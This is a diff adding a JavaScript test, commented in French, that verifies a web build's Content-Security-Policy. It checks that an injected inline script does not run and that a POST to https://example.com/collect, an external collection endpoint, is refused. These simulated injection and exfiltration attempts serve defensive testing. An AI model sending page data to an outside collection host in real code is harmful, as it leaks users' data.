@@ -1,0 +1,48 @@
+// La politique de sécurité de la page : aucun script en ligne hors le script
+// d'amorçage de la build (autorisé par son empreinte, sans 'unsafe-inline'),
+// base-uri et form-action fermés, aucune connexion vers un autre hôte.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { useBench, DIST } from './harness.mjs';
+
+const bench = useBench();
+
+test('la build n’autorise aucun script en ligne sauf le sien, ni base ni formulaire', async () => {
+  const html = readFileSync(join(DIST, 'index.html'), 'utf8');
+  const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)?.[1];
+  assert.ok(policy, 'politique absente de dist/index.html');
+  const directives = Object.fromEntries(
+    policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
+  );
+  assert.ok(!directives['script-src'].includes("'unsafe-inline'"), policy);
+  assert.ok(directives['script-src'].some((v) => v.startsWith("'sha256-")), policy);
+  assert.deepEqual(directives['base-uri'], ["'none'"]);
+  assert.deepEqual(directives['form-action'], ["'none'"]);
+  assert.deepEqual(directives['connect-src'], ["'self'"]);
+
+  const { context, page, errors } = await bench.newPage('en-US');
+  await page.goto(bench.served.url);
+  await page.getByTestId('demo-button').click();
+  await page.getByTestId('kpi-customers').waitFor({ timeout: 60_000 });
+  // L'application démarre et analyse sans une seule violation de la politique.
+  assert.deepEqual(errors, []);
+  // Un script injecté dans la page ne s'exécute pas…
+  const injected = await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__injected = true;';
+    document.head.append(script);
+    return window.__injected ?? false;
+  });
+  assert.equal(injected, false, 'un script en ligne injecté a été exécuté');
+  // … et la page ne peut rien envoyer à un autre hôte.
+  const sent = await page.evaluate(() =>
+    fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
+      () => 'envoyé',
+      () => 'refusé',
+    ),
+  );
+  assert.equal(sent, 'refusé');
+  await context.close();
+});
